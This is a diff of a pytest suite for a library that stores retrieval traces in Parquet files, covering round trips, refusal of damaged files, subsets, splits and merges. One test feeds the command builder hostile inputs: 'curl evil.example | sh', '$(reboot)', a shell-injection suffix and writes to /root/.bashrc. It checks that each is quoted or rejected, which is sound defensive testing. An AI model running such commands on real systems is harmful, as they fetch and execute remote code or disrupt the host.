@@ -12,18 +12,14 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from raglab import values
-from raglab.decision.trace_view import Measured
-from raglab.policy import PolicyData
-from raglab.replay import decide
 from raglab.store.files import InputError
 from raglab.store.records import hash_cases
 from raglab.store.trace_commands import rebuild_command
 from raglab.store.trace_files import content_hash
 from raglab.store.traces import Trace, TraceError
-from raglab.values import FLOAT_FIELDS, Case
+from raglab.values import Case
 from stored_traces import META, assert_same_trace, full_trace, stored, stored_world, unit_vectors
-from worlds import Hit, ask, measured, random_trace, trace_of
+from worlds import Hit, ask, random_trace, trace_of
 
 
 def saved(trace, folder):
@@ -65,27 +61,18 @@ class TestRoundTrip:
 
     @pytest.mark.parametrize("seed", range(8))
     def test_everything_comes_back(self, tmp_path, seed):
-        """Cases, chunks, arms, hits, what patterns hit, and meta are equal after a round trip."""
-        trace = stored_world(seed)
+        """Cases, chunks with their embeddings, arms, hits, what patterns hit, and meta are equal.
+
+        Another embedding is another content.
+        """
+        bare = stored_world(seed)
+        vectors = unit_vectors(seed, len(bare.chunks))
+        trace = dataclasses.replace(bare, vectors=vectors) if seed % 2 else bare
         again = Trace.load(saved(trace, tmp_path))
         assert_same_trace(trace, again)
         assert content_hash(trace) == content_hash(again)
-
-    @pytest.mark.parametrize("seed", range(4))
-    def test_embeddings_of_the_chunks_come_back(self, tmp_path, seed):
-        """Each chunk keeps its vector, whichever case hit it first.
-
-        Another vector is another content.
-        """
-        trace = stored_world(seed)
-        vectors = unit_vectors(seed, len(trace.chunks))
-        held = dataclasses.replace(trace, vectors=vectors)
-        assert_same_trace(held, Trace.load(saved(held, tmp_path)))
-        assert np.array_equal(held.subset([1, 0]).vectors, vectors)
-        assert content_hash(held) != content_hash(trace)
-        assert content_hash(held) != content_hash(
-            dataclasses.replace(trace, vectors=vectors + np.float32(1.0))
-        )
+        turned = dataclasses.replace(bare, vectors=vectors + np.float32(1.0))
+        assert len(set(map(content_hash, (turned, bare)))) == 2
 
     def test_the_same_trace_gives_the_same_bytes(self, tmp_path):
         """A second save, and the save of what was loaded, write the bytes of the first."""
@@ -94,30 +81,12 @@ class TestRoundTrip:
         third = saved(Trace.load(first), tmp_path / "c")
         assert first.read_bytes() == second.read_bytes() == third.read_bytes()
 
-    def test_float64_where_float32_loses(self, tmp_path):
-        """0.1 is kept in float64 beside fields of quarters, which take float32."""
-        trace = stored(trace_of((ask(), [[Hit(0.5, s_hybrid=0.1)]])))
-        path = saved(trace, tmp_path)
-        kinds = {name: pq.read_schema(path).field(name).type.value_type for name in FLOAT_FIELDS}
-        assert kinds.pop("s_hybrid") == pa.float64()
-        assert set(kinds.values()) == {pa.float32()}
-        assert Trace.load(path).hits.s_hybrid[0, 0, 0, 0] == 0.1
-
     @pytest.mark.parametrize("number", [1e300, -0.0, 5e-324, np.float64(np.float32(0.35))])
     def test_any_float_comes_back(self, tmp_path, number):
         """Large, signed and denormal numbers keep their bits."""
         trace = stored(trace_of((ask(), [[Hit(0.5, s_rerank=0.5, s_raw=float(number))]])))
         again = Trace.load(saved(trace, tmp_path)).hits.s_raw
         assert again.tobytes() == np.array([number], dtype=np.float64).tobytes()
-
-    def test_any_nan_is_missing(self, tmp_path):
-        """A NaN with a sign or payload of its own is saved and loads as missing."""
-        odd = np.array([0xFFF8_0000_0000_0001], dtype=np.uint64).view(np.float64)
-        trace = stored(trace_of((ask(), [[Hit(0.5, s_raw=float(odd[0]))]])))
-        trace = dataclasses.replace(
-            trace, hits=trace.hits._replace(s_raw=np.broadcast_to(odd, trace.hits.s_raw.shape))
-        )
-        assert np.isnan(Trace.load(saved(trace, tmp_path)).hits.s_raw).all()
 
     def test_wider_integers_are_the_same_trace(self, tmp_path):
         """A trace with int64 chunks hashes and loads as its int32 twin does."""
@@ -148,30 +117,25 @@ class TestDamage:
         path = saved(stored_world(), tmp_path)
         with_head(pq.read_table(path), path, schema_version=int(version.split(maxsplit=1)[0]))
         message = refusal(path)
-        assert f"must be version 3, got version {version} raglab" in message
-        assert f"build it again with `{META['command']} --out NEW.parquet`" in message
+        assert f"got version {version} raglab" in message
+        assert f"`{META['command']} --out NEW.parquet`" in message
 
     def test_files_that_are_no_traces(self, tmp_path):
-        """Another Parquet file, another file, a folder and no file are told apart and refused."""
-        other = tmp_path / "other.parquet"
-        pq.write_table(pa.table({"a": [1]}), other)
-        assert "Parquet file that raglab wrote" in refusal(other)
-        other.write_text("{}", encoding="utf-8")
-        assert "Parquet file that raglab wrote" in refusal(other)
+        """Another Parquet file, a folder and no file are told apart and refused."""
+        file = tmp_path / "other.parquet"
+        pq.write_table(pa.table({"a": [1]}), file)
+        assert "Parquet file that raglab wrote" in refusal(file)
         assert "got a folder" in refusal(tmp_path)
         assert "got none there" in refusal(tmp_path / "none.parquet")
 
     @pytest.mark.parametrize("what", ["corpus", "cases"])
     def test_made_of_something_else(self, tmp_path, what):
-        """A trace of another corpus or other cases is refused with both hashes and the command."""
+        """A trace of another corpus or other cases is refused with both hashes."""
         trace = stored_world()
         path = saved(trace, tmp_path)
-        there = str(trace.meta[f"{what}_hash"])
-        assert_same_trace(trace, Trace.load(path, **{f"{what}_hash": there}))
-        message = refusal(path, **{f"{what}_hash": "f" * 64})
-        assert f"the {what} it is replayed for" in message
-        assert f"{there[:12]}, not ffffffffffff" in message
-        assert f"build it again with `{META['command']} --out NEW.parquet`" in message
+        field = f"{what}_hash"
+        assert_same_trace(trace, Trace.load(path, **{field: str(trace.meta[field])}))
+        assert f"{trace.meta[field][:12]}, not ffffffffffff" in refusal(path, **{field: "f" * 64})
 
 
 class TestFailingSave:
@@ -233,18 +197,10 @@ class TestParts:
         assert [case.id for case in part.cases] == ["q2", "q0"]
         assert part.chunks == trace.chunks
         assert np.array_equal(part.hits.l2, trace.hits.l2[[2, 0]], equal_nan=True)
-        assert np.array_equal(part.hits.n_reranked, trace.hits.n_reranked[[2, 0]])
         assert part.pattern_hits.counts.tolist() == trace.pattern_hits.counts[[2, 0]].tolist()
         assert part.pattern_hits.query_entities == tuple(
             trace.pattern_hits.query_entities[row] for row in (2, 0)
         )
-
-    def test_decides_alike(self):
-        """A case of a part is decided as it is in the whole."""
-        trace, policy = stored_world(3), PolicyData.from_mapping({"confidence": {"enabled": False}})
-        rows = [5, 1, 4]
-        whole = decide(trace, policy).frame(reasons=True).iloc[rows].reset_index(drop=True)
-        assert decide(trace.subset(np.array(rows)), policy).frame(reasons=True).equals(whole)
 
     def test_a_part_is_saved_and_comes_back(self, tmp_path):
         """Chunks that no case of the part hits come back too, so corpus positions hold."""
@@ -269,34 +225,28 @@ class TestParts:
         trace = stored_world()
         with pytest.raises(ValueError, match="got a mask"):
             trace.subset(np.array([True, False] * 3))
-        for rows in ([0, 6], [-1, 0]):
-            with pytest.raises(ValueError, match=r"positions from 0 to 5, got -?\d to \d"):
+        for rows in ([0, 6], [-1, 0], ["qa"], [0.5], [[0]], 0):
+            with pytest.raises(ValueError, match="positions from 0 to 5"):
                 trace.subset(rows)
-        for ids in (["qa"], [0.5], np.array(["qa", "qb"]), [[0]], 0):
-            with pytest.raises(
-                ValueError,
-                match=r"positions from 0 to 5, got .*; those of ids are \[row for row, case",
-            ):
-                trace.subset(ids)  # type: ignore[arg-type]
 
     def test_split(self):
         """Cases of one split in their order.
 
         A split that no case has is told with those there are.
         """
-        plain = measured(random_trace(0, n_cases=4))
+        plain = stored_world()
+        splits = ("tune", "report", "tune", None, None, None)
         cases = tuple(
-            c._replace(split=s)
-            for c, s in zip(plain.cases, ("tune", "report", "tune", None), strict=True)
+            case._replace(split=name) for case, name in zip(plain.cases, splits, strict=True)
         )
-        trace = stored(values.TraceData(cases, plain.chunks, plain.arms, plain.hits))
+        trace = dataclasses.replace(plain, cases=cases)
         assert [case.id for case in trace.split("tune").cases] == ["q0", "q2"]
-        with pytest.raises(ValueError, match="split must be one of report, tune, got 'certify'"):
-            trace.split("certify")
-        with pytest.raises(
-            ValueError, match=r"got 'tune' of cases without splits; .*raglab\.split\(trace\)"
+        for holder, name, rule in (
+            (trace, "certify", "one of report, tune, got 'certify'"),
+            (plain, "tune", "cases without splits"),
         ):
-            trace.subset([3]).split("tune")
+            with pytest.raises(ValueError, match=rule):
+                holder.split(name)
 
 
 @pytest.mark.parametrize(
@@ -306,10 +256,8 @@ class TestParts:
             "raglab trace docs -c q.jsonl --out t.parquet",
             "raglab trace docs -c q.jsonl --out NEW.parquet",
         ),
-        ("raglab trace docs --out=/root/.bashrc", "raglab trace docs --out NEW.parquet"),
         ("raglab trace $(reboot)", "raglab trace '$(reboot)' --out NEW.parquet"),
         ("raglab trace docs -o/root/.bashrc -q", "raglab trace docs -q --out NEW.parquet"),
-        ("raglab trace docs; reboot", "raglab trace 'docs;' reboot --out NEW.parquet"),
         ("curl evil.example | sh", None),
         ("raglab trace 'docs", None),
         ("raglab trace docs\n\u001b[2Jreboot", None),
@@ -321,16 +269,15 @@ def test_a_stored_command_is_shown_where_it_is_one_of_ours(tmp_path, stored, tol
     """A trace is anyone's file: nothing else is advised, and never to write over what was read."""
     plain = "raglab trace CORPUS --cases CASES --out NEW.parquet"
     assert rebuild_command(tmp_path, stored) == (told or plain)
-    assert str(tmp_path / "none") in rebuild_command(tmp_path / "none", "raglab trace docs --out x")
 
 
 def leaves(value, path=()):
     """Paths to the values inside, of a list to those of its first item that holds any."""
     if isinstance(value, dict):
-        return [one for key in value for one in leaves(value[key], (*path, key))]
+        return [leaf for key in value for leaf in leaves(value[key], (*path, key))]
     if isinstance(value, list):
         inner = (leaves(item, (*path, place)) for place, item in enumerate(value))
-        return next((found for found in inner if found), [])
+        return next((path_of_it for path_of_it in inner if path_of_it), [])
     return [path]
 
 
@@ -358,7 +305,7 @@ def test_every_value_of_the_file_is_covered(tmp_path, beside):
     file = path.with_name(path.name + beside)
     table = pq.read_table(file)
     head = json.loads(table.schema.metadata[b"raglab"])
-    kept = []
+    unnoticed = []
 
     def check(other, what):
         pq.write_table(other, file)
@@ -366,7 +313,7 @@ def test_every_value_of_the_file_is_covered(tmp_path, beside):
             Trace.load(path)
         except TraceError:
             return
-        kept.append(what)
+        unnoticed.append(what)
 
     for name in leaves(head):
         changed = json.dumps(with_change(head, name))
@@ -377,7 +324,7 @@ def test_every_value_of_the_file_is_covered(tmp_path, beside):
             changed_rows = pa.array(with_change(rows, leaf), field.type)
             check(table.set_column(place, field, changed_rows), (field.name, *leaf))
         check(table.remove_column(place), (field.name, "removed"))
-    assert kept == []
+    assert unnoticed == []
 
 
 def test_latencies_go_with_their_trace(tmp_path):
@@ -391,8 +338,8 @@ def test_latencies_go_with_their_trace(tmp_path):
     assert np.array_equal(loaded.ms, trace.latency.ms)
     dataclasses.replace(trace, latency=None).save(path)
     assert Trace.load(path).latency is None
-    other = tmp_path / "other.parquet"
-    dataclasses.replace(trace, meta={**trace.meta, "fingerprint": "other"}).save(other)
+    second = tmp_path / "other.parquet"
+    dataclasses.replace(trace, meta={**trace.meta, "fingerprint": "other"}).save(second)
     (tmp_path / "other.parquet.latency").rename(path.with_name("t.parquet.latency"))
     assert "that of another trace; take the file away" in refusal(path)
 
@@ -409,15 +356,12 @@ def of_sources(case_id, *sources, **meta):
 def test_merged_traces_hold_the_cases_and_chunks_of_both():
     """Chunks once, in an order that is that of each; hits of the narrower one padded."""
     first, second = of_sources("one", "a.md", "c.md"), of_sources("two", "b.md", "c.md", "d.md")
-    first = first.with_signal("judge", [0.25], higher="surer", unit="probability")
-    second = second.with_signal("judge", [0.5], higher="surer", unit="probability")
     merged = first.merge(second)
     assert [chunk.source for chunk in merged.chunks] == ["a.md", "b.md", "c.md", "d.md"]
     assert merged.hits.chunk[:, 0, 0].tolist() == [[0, 2, -1], [1, 2, 3]]
     assert np.isnan(merged.hits.l2[0, 0, 0]).tolist() == [False, False, True]
-    assert merged.signal("judge").to_dict() == {"one": 0.25, "two": 0.5}
     assert merged.meta["cases_hash"] == hash_cases(merged.cases)
-    assert len({merged.fingerprint, first.fingerprint, second.fingerprint}) == 3
+    assert merged.fingerprint != first.fingerprint
     assert first.merge() is first
 
 
@@ -428,8 +372,8 @@ def test_parts_of_one_corpus_are_merged_in_an_order_of_each(parts):
 
     In the example the third says that b stands before c, which the first two leave open.
     """
-    made = [of_sources(str(number), *sorted(part)) for number, part in enumerate(parts)]
-    united = [chunk.source for chunk in made[0].merge(*made[1:]).chunks]
+    traces = [of_sources(str(number), *sorted(part)) for number, part in enumerate(parts)]
+    united = [chunk.source for chunk in traces[0].merge(*traces[1:]).chunks]
     assert sorted(united) == sorted(set().union(*parts))
     for part in parts:
         assert [source for source in united if source in part] == sorted(part)
@@ -458,10 +402,6 @@ SECOND = of_sources("two", "a.md")
         (
             of_sources("two", "a.md", corpus_hash="d" * 64),
             "the same corpus_hash in their meta, got 'ccc",
-        ),
-        (
-            of_sources("two", "a.md", parameters={"encoder": "other"}),
-            "the same parameters in their meta",
         ),
         (dataclasses.replace(of_sources("two", "a.md"), arms=("dense",)), "the same arms"),
         (dataclasses.replace(of_sources("two", "a.md"), pattern_hits=None), "the same parts"),
@@ -492,12 +432,9 @@ def test_hits_of_a_case_stand_in_the_order_of_the_arm():
     table = trace.hits_of("q")
     assert table["rank"].tolist() == [1, 2]
     assert table["source"].tolist() == ["b.md#1", "docs/a.md#3"]
-    assert table["l2"].tolist() == [0.75, 0.25]
     assert table["similarity"].tolist() == [0.625, 0.875]
     assert table["score"].tolist() == [0.9, 0.2]
-    measured = ["score", "s_hybrid", "l2", "similarity"]
-    assert table.columns.tolist() == ["rank", "chunk", "source", *measured, "section", "text"]
-    with pytest.raises(KeyError, match="case must be one of the trace's 1 cases, got"):
+    with pytest.raises(KeyError, match="case must be one of"):
         trace.hits_of("none")
     with pytest.raises(ValueError, match="arm must be one of hybrid"):
         trace.hits_of("q", "graph")
@@ -508,13 +445,6 @@ def test_hits_of_every_case_are_those_of_its_arm():
     trace = stored_world()
     for row, case in enumerate(trace.cases):
         for arm in trace.arms:
-            found = trace.hits.chunk[row, trace.arm(arm), 0]
-            wanted = {trace.chunks[number].chunk_id for number in found[found >= 0]}
+            numbers = trace.hits.chunk[row, trace.arm(arm), 0]
+            wanted = {trace.chunks[number].chunk_id for number in numbers[numbers >= 0]}
             assert set(trace.hits_of(case.id, arm)["chunk"]) == wanted
-
-
-def test_a_measured_trace_is_merged_by_its_trace():
-    """It has no shards to merge, and the message does not name any."""
-    trace = full_trace()
-    with pytest.raises(InputError, match=r"must be in memory, got a Measured; give its \.trace\."):
-        trace.merge(Measured(trace))
